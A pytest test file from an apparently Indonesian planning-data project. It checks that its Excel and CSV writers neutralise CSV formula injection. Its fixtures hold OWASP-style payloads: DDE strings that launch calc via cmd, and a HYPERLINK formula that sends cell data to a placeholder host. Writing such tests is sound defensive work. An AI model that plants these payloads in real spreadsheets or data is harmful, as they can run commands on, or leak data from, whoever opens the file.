"""Safe to share: no formula from the data in any Excel or CSV output (workbench.tabel_keluaran).

Hostile indicator and perangkat daerah names (OWASP CSV-injection payloads) go through every
writer: the analysis outputs (csv + ``analisis.xlsx``), the batch's Excel tables and the
explorer export. No cell may have ``data_type == "f"`` (the project writes no formula itself),
and no CSV cell may begin with a formula character.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from analysis_fixtures import Paket, indikator, kesepakatan, realisasi, rencana, wilayah
from openpyxl import Workbook, load_workbook

from workbench import laporan, tabel_keluaran, widgets
from workbench.analysis import run_analysis, write_outputs

SK = "1.02.02.2.02."
JAHAT_IND = "=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"klik\")"
JAHAT_PD = "@SUM(1+1)*cmd|' /C calc'!A0"
JAHAT = (JAHAT_IND, JAHAT_PD, "+1+cmd", "-2+3+cmd", "\t=1+1", "\r=1+1")


def _paket() -> Paket:
    wil = wilayah([("62", "Provinsi", 400), ("62.01", "Kabupaten", 100),
                   ("62.02", "Kabupaten", 300)])  # fmt: skip
    ind = indikator([("IPM", "naik", "rata_tertimbang_penduduk"), ("AKI", "turun", "jumlah")])
    ind["uraian"] = [JAHAT_IND, "-AKI+cmd"]
    ind["satuan"] = ["+poin", "kasus"]

    def l(w, dok, kode, tahun=2026, **kw):  # noqa: E743
        return {"kode_wilayah": w, "dokumen": dok, "tahun": tahun, "kode": kode, **kw}

    ren = rencana([
        l("62", "RPJMD", "1.02.02", ind="IPM", t=74, tahun=2029, pd=JAHAT_PD),
        l("62", "RPJMD", "1.02.02", ind="IPM", t=73, pd=JAHAT_PD),
        l("62", "RKPD", "1.02.02", ind="IPM", t=73.5, pd=JAHAT_PD),
        l("62.01", "RPJMD", "1.02.02", ind="IPM", t=71, pd=JAHAT_PD),
        l("62.01", "RPJMD", "1.02.03", ind="AKI", t=5, pd="=1+1"),  # not in the RKPD: a finding
        l("62.01", "RKPD", "1.02.02", ind="IPM", t=70, pd=JAHAT_PD),
        l("62.01", "RKPD", SK + "0001", pagu=100.0, pd=JAHAT_PD, teks="-5+cmd"),
        l("62.02", "RKPD", "1.02.02", ind="IPM", t=74, pd="\t=2+2"),
    ])  # fmt: skip
    ren["uraian_indikator"] = ren["uraian_indikator"].map(
        lambda v: JAHAT_IND if v == "IPM" else v, na_action="ignore"
    )
    real = realisasi([("62", "IPM", 2025, 72.4), ("62.01", "IPM", 2025, 69.0),
                      ("62.02", "IPM", 2025, 73.0)])  # fmt: skip
    kes = kesepakatan([(2026, "IPM", SK + "0001", None), (2026, "AKI", SK + "0002", "62.02")])
    return Paket(wilayah=wil, indikator=ind, rencana=ren, realisasi=real, kesepakatan=kes)


@pytest.fixture(scope="module")
def hasil():
    return run_analysis(_paket(), 2026)


def _cells(path: Path):
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _no_formula(path: Path) -> list[str]:
    """Every text of the workbook; fails on any formula cell."""
    texts = []
    for c in _cells(path):
        assert c.data_type != "f", f"{path.name}!{c.parent.title}!{c.coordinate}: {c.value!r}"
        if isinstance(c.value, str):
            texts.append(c.value)
            if tabel_keluaran.is_formula_like(c.value):
                assert c.quotePrefix, f"{c.coordinate}: {c.value!r} without the quote prefix"
    return texts


def test_is_formula_like_and_csv_text():
    for v in JAHAT:
        assert tabel_keluaran.is_formula_like(v)
        assert tabel_keluaran.csv_text(v) == "'" + v
    for v in ("Dinas Kesehatan", "62.01", "", "a=b", 5, None, -3.5):
        assert not tabel_keluaran.is_formula_like(v)
        assert tabel_keluaran.csv_text(v) == v
    # a plain number written as text cannot be a formula: left as it is
    for v in ("-5", "+1,5", "-0.25", "-12%"):
        assert tabel_keluaran.csv_text(v) == v


def test_csv_safe_only_touches_text_cells():
    f = pd.DataFrame({
        "teks": ["=1+1", "ok", None, "-2+3", "-5"],
        "s": pd.array(["@x", None, "b", "c", "d"], dtype="string"),
        "angka": [-1.0, -2.0, 3.0, 4.0, 5.0],
        "campur": [-1, "=A1", 2.5, None, "x"],
    })  # fmt: skip
    out = tabel_keluaran.csv_safe(f)
    assert out["teks"].tolist() == ["'=1+1", "ok", None, "'-2+3", "-5"]
    assert out["s"].dtype == "string" and out["s"].tolist()[0] == "'@x"
    assert out["angka"].tolist() == f["angka"].tolist()
    assert out["campur"].tolist()[:3] == [-1, "'=A1", 2.5]
    assert f["teks"].iloc[0] == "=1+1"  # the input is not modified


@pytest.mark.parametrize("write_only", [False, True])
def test_write_sheet_keeps_hostile_text_as_text(tmp_path, write_only):
    wb = Workbook(write_only=write_only)
    if not write_only:
        wb.remove(wb.active)
    ws = wb.create_sheet("Uji")
    frame = pd.DataFrame({"nama": list(JAHAT), "pagu": [1e6, None, 3.0, 4.0, 5.0, float("inf")]})
    row = tabel_keluaran.write_sheet(ws, frame, ["=Nama", "Pagu (Rp)"],
                                     formats={"pagu": '"Rp" #,##0'})  # fmt: skip
    assert row == 1
    wb.save(tmp_path / "u.xlsx")
    texts = _no_formula(tmp_path / "u.xlsx")
    # values kept exactly (XML reads a carriage return back as a line feed)
    assert texts == ["=Nama", "Pagu (Rp)", *(v.replace("\r", "\n") for v in JAHAT)]
    ws = load_workbook(tmp_path / "u.xlsx")["Uji"]
    assert ws.freeze_panes == "A2" and ws["B2"].number_format == '"Rp" #,##0'
    assert ws["B3"].value is None and ws["B7"].value is None  # NaN and inf: empty
    assert ws.column_dimensions["A"].width >= len(JAHAT_IND)


def test_write_sheet_below_a_title_block():
    wb = Workbook()
    ws = wb.active
    ws.append(["Judul"])
    ws.append([])
    row = tabel_keluaran.write_sheet(ws, pd.DataFrame({"a": [1, 2]}), ["A"])
    assert row == 3 and ws["A3"].value == "A" and ws["A5"].value == 2
    assert ws.freeze_panes == "A4" and ws.auto_filter.ref == "A3:A5"


def test_analysis_outputs_carry_no_formula(hasil, tmp_path):
    paths = write_outputs(hasil, tmp_path)
    texts = _no_formula(tmp_path / "analisis.xlsx")
    assert JAHAT_PD in texts and JAHAT_IND in texts  # the data is there, as text
    seen = set()
    for p in paths:
        if p.suffix != ".csv":
            continue
        with p.open(encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not tabel_keluaran.is_formula_like(cell) or (
                        tabel_keluaran.csv_text(cell) == cell), f"{p.name}: {cell!r}"
                    seen.add(cell)
    assert "'" + JAHAT_PD in seen and "'" + JAHAT_IND in seen


def test_batch_excel_tables_carry_no_formula(hasil, tmp_path):
    nom = pd.DataFrame({"kode": [SK + "0001"], "tingkat": ["sub_kegiatan"], "uraian": ["x"],
                        "indikator": ["=cmd|' /C calc'!A0"], "satuan": ["@unit"]})  # fmt: skip
    paths = laporan.tulis_excel(tmp_path, hasil, sintetis=False, nomenklatur=nom)
    texts = [t for p in paths for t in _no_formula(p)]
    assert JAHAT_IND in texts and JAHAT_PD in texts and "=cmd|' /C calc'!A0" in texts


def test_explorer_export_carries_no_formula(tmp_path):
    tabel = pd.DataFrame({"kode_wilayah": ["62.01", "62.02"],
                          "perangkat_daerah": [JAHAT_PD, "ok"],
                          "uraian_indikator": [JAHAT_IND, "-x+cmd"],
                          "pagu": [1.0, None]})  # fmt: skip
    k = widgets.Keadaan(pilihan={"tahun": 2026}, judul="=judul", gambar={},
                        tabel={"rincian": tabel})  # fmt: skip
    path = tmp_path / "ekspor.xlsx"
    widgets._tulis_excel(path, k, [("Tahun", "2026"), ("Catatan", "=1+1")])
    texts = _no_formula(path)
    assert JAHAT_PD in texts and "=1+1" in texts


def test_importers_xlsx_output_carries_no_formula_from_data(tmp_path):
    """``workbench import-kesepakatan/import-bps --out X.xlsx`` write through the safe sheet."""
    from openpyxl import load_workbook

    from workbench.spreadsheet import write_table

    frame = pd.DataFrame({"kode_indikator": ["=HYPERLINK(\"http://x\")", "IKU.IPM"],
                          "sumber": ["+1+1", "BPS"]})
    out = write_table(frame, tmp_path / "realisasi.xlsx", "realisasi")
    ws = load_workbook(out)["realisasi"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in ws[2]] == ["=HYPERLINK(\"http://x\")", "+1+1"]  # exact text kept
